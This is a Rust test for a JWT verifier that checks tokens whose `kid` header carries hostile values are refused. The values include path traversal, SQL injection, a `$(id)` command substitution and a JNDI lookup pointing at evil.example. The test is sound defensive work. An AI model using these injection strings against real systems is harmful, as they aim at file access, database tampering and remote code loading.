//! RFC 7515 §4.1.4, RFC 8725 §3.10, CVE-2018-1000125: `kid` is a name and nothing else.

use serde_json::json;

use crate::{claims, refused, sign_mac};

#[test]
fn names_that_are_more_than_names() {
    let claims = claims().to_string();
    for kid in [
        "",
        "/dev/null",
        "../../../../dev/null",
        "ec' OR '1'='1",
        "ec; DROP TABLE keys",
        "ec\0",
        "EC",
        " ec",
        "ec ",
        "https://evil.example/key",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
    ] {
        let header = json!({ "typ": "at+jwt", "alg": "HS256", "kid": kid }).to_string();
        for secret in [&b""[..], b"\0", b"x"] {
            refused(&sign_mac(secret, &header, &claims), "UnknownKey");
        }
    }
    for kid in [json!(null), json!(1), json!(["ec"]), json!({ "kid": "ec" })] {
        let header = json!({ "typ": "at+jwt", "alg": "HS256", "kid": kid }).to_string();
        refused(&sign_mac(b"", &header, &claims), "Header");
    }
    let long = json!({ "typ": "at+jwt", "alg": "HS256", "kid": "a".repeat(4000) }).to_string();
    refused(&sign_mac(b"", &long, &claims), "UnknownKey");
}
